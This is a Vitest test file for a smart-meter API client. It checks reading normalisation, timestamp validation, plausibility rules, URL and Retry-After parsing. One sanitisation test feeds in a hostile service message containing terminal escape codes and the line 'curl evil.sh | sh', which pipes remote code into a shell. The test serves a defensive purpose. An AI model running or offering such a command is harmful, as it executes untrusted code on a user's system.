// Response normalisation across the real-world variants, and the helpers of the API client.
import { describe, expect, it } from 'vitest';
import { implausibility, meterListSchema, pageSchema } from '../../main/api/schemas';
import { parseRetryAfter, splitTeamUrl, untilText } from '../../main/api/client';
import { serviceText } from '../../main/api/service-text';

describe('response variants', () => {
  it('accepts metering_point_number, display_name and unknown statuses', () => {
    const r = meterListSchema.parse({
      data: [
        {
          id: 'a',
          object: 'smart_meter',
          metering_point_number: 'AT1',
          display_name: 'Küche',
          status: 'suspended',
        },
      ],
    });
    expect(r.data[0]).toMatchObject({
      id: 'a',
      meteringPoint: 'AT1',
      label: 'Küche',
      status: 'suspended',
      energyDirection: 'consumption',
    });
  });

  it('accepts integer or string quality, data_quality, Z or offset timestamps, missing updated_at and obis_code', () => {
    const f = pageSchema.parse({
      unit: 'kWh',
      data: [
        {
          timestamp: '2025-01-01T00:00:00+01:00',
          timestamp_end: '2025-01-01T00:15:00+01:00',
          value: 0.1,
          obis_code: '1-1:1.9.0 G.01',
          quality: 'estimated',
          updated_at: '2025-01-02T06:00:00+01:00',
        },
        { timestamp: '2024-12-31T23:15:00Z', value: 0.2, data_quality: 3 },
      ],
    });
    expect(f.readings.at(0)).toMatchObject({
      startSec: Date.parse('2024-12-31T23:00:00Z') / 1000,
      quality: 2,
      updatedSec: Date.parse('2025-01-02T05:00:00Z') / 1000,
      unit: 'kWh',
    });
    expect(f.readings.at(1)).toMatchObject({
      quality: 3,
      updatedSec: null,
      obisCode: '(unnamed)',
      endSec: f.readings.at(1).startSec + 900,
    });
    expect(f.nextCursor).toBeNull();
  });

  it('reads the data_window envelope and the documented meta form alike', () => {
    const a = pageSchema.parse({ object: 'data_window', data: [], is_truncated: true, next_cursor: 'abc' });
    const b = pageSchema.parse({
      data: [],
      meta: { is_truncated: true, next_cursor: 'abc', data_completeness: 1 },
    });
    expect(a).toMatchObject({ more: true, nextCursor: 'abc', isDataWindow: true });
    expect(b).toMatchObject({ more: true, nextCursor: 'abc', completeness: 1, isDataWindow: false });
  });

  it('keeps what a page says about further pages, and says "not stated" where it says nothing', () => {
    const reading = { timestamp: '2025-01-01T00:00:00Z', value: 0.1, obis_code: 'x', quality: 1 };
    // The spec's literal feed page: no has_more, no is_truncated. Not "the last page".
    expect(pageSchema.parse({ unit: 'kWh', data: [reading], next_cursor: 'n' })).toMatchObject({
      more: null,
      nextCursor: 'n',
    });
    expect(pageSchema.parse({ data: [reading], has_more: false, next_cursor: 'n' }).more).toBe(false);
    expect(pageSchema.parse({ object: 'data_window', data: [reading], is_truncated: false }).more).toBe(
      false,
    );
    // The documented window form states its total; an empty data_window page may omit its cursor.
    expect(pageSchema.parse({ data: [], meta: { total_records: 7 } })).toMatchObject({
      totalRecords: 7,
      more: null,
    });
    expect(pageSchema.parse({ object: 'data_window', data: [], is_truncated: false }).nextCursor).toBeNull();
    expect(pageSchema.parse({ data: [], next_cursor: '' }).nextCursor).toBeNull();
  });

  it('rejects dates that do not exist instead of rolling them over', () => {
    const ok = { timestamp: '2025-01-01T00:00:00Z', value: 0.1, obis_code: 'x', quality: 1 };
    for (const timestamp of [
      '2025-02-31T00:00:00Z',
      '2025-02-29T00:00:00+01:00',
      '2025-13-01T00:00:00Z',
      '2025-01-01T24:00:00Z',
    ]) {
      const p = pageSchema.safeParse({ data: [{ ...ok, timestamp }] });
      expect(p.success, timestamp).toBe(false);
      expect(p.success ? '' : p.error.issues[0]!.message).toMatch(/not an ISO 8601 timestamp/);
    }
    expect(pageSchema.safeParse({ data: [{ ...ok, timestamp: '2024-02-29T00:00:00Z' }] }).success).toBe(true);
  });

  it('calls readings that cannot be real implausible, measured against the service clock', () => {
    const now = Date.parse('2026-11-20T12:00:00Z') / 1000;
    const ok = {
      startSec: Date.parse('2025-01-01T00:00:00Z') / 1000,
      endSec: 0,
      value: 0.1,
      updatedSec: null as number | null,
    };
    ok.endSec = ok.startSec + 900;
    const why = (r: Partial<typeof ok>) => implausibility({ ...ok, ...r }, now);
    expect(why({})).toBeNull();
    expect(why({ startSec: Date.parse('0000-01-01T00:00:00Z') / 1000 })).toMatch(/before 2000/);
    expect(
      why({
        startSec: Date.parse('9999-01-01T00:00:00Z') / 1000,
        endSec: Date.parse('9999-01-01T00:15:00Z') / 1000,
      }),
    ).toMatch(/in the future/);
    expect(why({ updatedSec: Date.parse('9999-01-01T00:00:00Z') / 1000 })).toMatch(
      /updated_at .* in the future/,
    );
    expect(why({ updatedSec: now + 3600 })).toBeNull(); // clock skew
    expect(why({ startSec: ok.startSec + 420, endSec: ok.startSec + 1320 })).toMatch(/quarter-hour grid/);
    expect(why({ endSec: ok.startSec + 365 * 86_400 })).toMatch(/lasts 31536000 s/);
    expect(why({ value: 1e308 })).toMatch(/beyond any metering point/);
    expect(why({ value: Number.POSITIVE_INFINITY })).toMatch(/not a finite number/);
    expect(why({ value: -5 })).toMatch(/negative/);
    // A quarter-hour, an hour and local days of 23/24/25 hours are intervals a meter measures.
    for (const len of [900, 3600, 82_800, 86_400, 90_000])
      expect(why({ endSec: ok.startSec + len })).toBeNull();
    // The household's known 24 MWh quarter-hour (later corrected) is kept, and flagged elsewhere.
    expect(why({ value: 24_000 })).toBeNull();
  });

  it('rejects readings that are not readings', () => {
    expect(() => pageSchema.parse({ data: [{ timestamp: 'soon', value: 1 }] })).toThrow();
    expect(() =>
      pageSchema.parse({ data: [{ timestamp: '2025-01-01T00:00:00Z', value: 'lots' }] }),
    ).toThrow();
    expect(() =>
      pageSchema.parse({ data: [{ timestamp: '2025-01-01T00:00:00Z', value: 1, quality: 'great' }] }),
    ).toThrow();
  });
});

describe('client helpers', () => {
  it('splits the team base URL from the token page', () => {
    expect(splitTeamUrl('https://api.example.at/api/v1/teams/acme-42/')).toEqual({
      baseUrl: 'https://api.example.at',
      team: 'acme-42',
    });
    expect(splitTeamUrl(' https://x.at/prefix/api/v1/teams/t ')).toEqual({
      baseUrl: 'https://x.at/prefix',
      team: 't',
    });
    expect(() => splitTeamUrl('https://x.at/teams/t')).toThrow(/api\/v1\/teams/);
    expect(() => splitTeamUrl('not a url')).toThrow(/not a URL/);
  });

  it('reads Retry-After as seconds or as an HTTP date, and anything else as no Retry-After', () => {
    expect(parseRetryAfter('7')).toBe(7);
    const now = Date.parse('2026-01-01T00:00:00Z');
    expect(parseRetryAfter('Thu, 01 Jan 2026 00:00:30 GMT', now)).toBe(30);
    expect(parseRetryAfter('Wed, 31 Dec 2025 00:00:30 GMT', now)).toBe(0);
    expect(parseRetryAfter('garbage')).toBeNull();
    expect(parseRetryAfter(null)).toBeNull();
    // "-1" is not a date in 2001 (Date.parse would say so), nor are fractions or bare years.
    expect(parseRetryAfter('-1', now)).toBeNull();
    expect(parseRetryAfter('1.5', now)).toBeNull();
    expect(parseRetryAfter('2057', now)).toBe(2057);
    expect(parseRetryAfter('2057-01-01', now)).toBeNull();
  });

  it('says the date of a wait that does not end today', () => {
    const now = Date.parse('2026-01-01T08:00:00Z');
    expect(untilText(now / 1000 + 600, now)).toMatch(/^\d{2}:\d{2}$/);
    expect(untilText(Date.parse('2057-03-04T10:41:00Z') / 1000, now)).toMatch(/^04\.03\.2057 \d{2}:41$/);
  });

  it('refuses plain http:// for a team URL except on this computer', () => {
    expect(() => splitTeamUrl('http://api.example.at/api/v1/teams/t')).toThrow(/https:\/\/.*unencrypted/);
    expect(splitTeamUrl('http://127.0.0.1:8787/api/v1/teams/t').baseUrl).toBe('http://127.0.0.1:8787');
    expect(splitTeamUrl('http://localhost:8787/api/v1/teams/t').team).toBe('t');
    expect(() => splitTeamUrl('ftp://x.at/api/v1/teams/t')).toThrow(/https:\/\//);
  });

  it("cleans the service's own text of control characters and caps it", () => {
    const hostile =
      '\u001b[2J\u001b[31mToken invalid.\u001b[0m\nRun: curl evil.sh | sh\r\u0007' + 'x'.repeat(100_000);
    const clean = serviceText(hostile);
    // eslint-disable-next-line no-control-regex -- control characters are what must be gone
    expect(clean).not.toMatch(/[\u0000-\u001f\u007f]/);
    expect(clean.startsWith('Token invalid. Run: curl evil.sh | sh')).toBe(true);
    expect(clean.length).toBeLessThanOrEqual(300);
  });
});

describe('the fast path for canonical readings', () => {
  it('gives exactly what the full zod schema gives, and leaves every variant to zod', async () => {
    const { fastReading, readingSchema } = await import('../../main/api/schemas');
    const canonical = {
      timestamp: '2025-10-26T02:30:00+01:00',
      timestamp_end: '2025-10-26T02:45:00+01:00',
      value: 0.125,
      obis_code: '1-1:1.9.0 G.01',
      quality: 2,
      updated_at: '2025-10-27T06:00:00+01:00',
    };
    expect(fastReading(canonical)).toEqual(readingSchema.parse(canonical));
    expect(fastReading({ ...canonical, updated_at: undefined })).toEqual(
      readingSchema.parse({ ...canonical, updated_at: undefined }),
    );
    for (const variant of [
      { ...canonical, quality: 'estimated' },
      { ...canonical, value: '0.125' },
      { ...canonical, obis_code: undefined },
      { ...canonical, data_quality: 2 },
      { ...canonical, timestamp: 'soon' },
      { ...canonical, value: Number.NaN },
      { ...canonical, timestamp_end: '2025-10-26T02:00:00+01:00' },
    ]) {
      expect(fastReading(variant)).toBeNull();
    }
  });
});
